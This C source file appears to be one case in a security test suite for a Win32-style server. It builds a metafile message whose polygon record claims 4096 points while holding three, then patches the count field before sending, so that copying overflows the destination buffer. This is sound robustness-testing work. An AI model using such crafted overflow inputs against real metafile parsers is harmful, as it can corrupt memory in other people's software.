/* SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception */
/*
 * A metafile whose polygon says 4096 points in a record that has room for three. The next record is long enough for
 * all of them to be read from the file, so what breaks is the block they are copied to. The harmless records before it
 * would show if the request were left half done.
 */
#include <string.h>

#include "attacks/attacks.h"

enum { CLAIMED = 4096, GIVEN = 3 };

enum w32_status w32_attack_metafile_polygon_count(const struct w32_client *client)
{
    static _Thread_local struct w32_point points[CLAIMED];
    struct w32_message message = {0};
    uint32_t record_at;

    for (int32_t i = 0; i < CLAIMED; i++)
        points[i] = (struct w32_point){i % 640, i / 640};
    w32_metafile_begin(&message, 0, 0);
    w32_metafile_colour(&message, 0xff0000);
    w32_metafile_rect(&message, W32_RECORD_RECT, (struct w32_rect){100, 100, 500, 500});
    record_at = message.size;
    w32_metafile_points(&message, W32_RECORD_POLYGON, points, GIVEN);
    w32_metafile_points(&message, W32_RECORD_POLYLINE, points, CLAIMED);
    w32_metafile_end(&message);
    if (!message.failed) {
        struct w32_record_points record;

        memcpy(&record, message.bytes + record_at, sizeof record);
        record.count = CLAIMED;
        memcpy(message.bytes + record_at, &record, sizeof record);
    }
    return w32_message_send(&message, client, W32_METAFILE_PLAY);
}
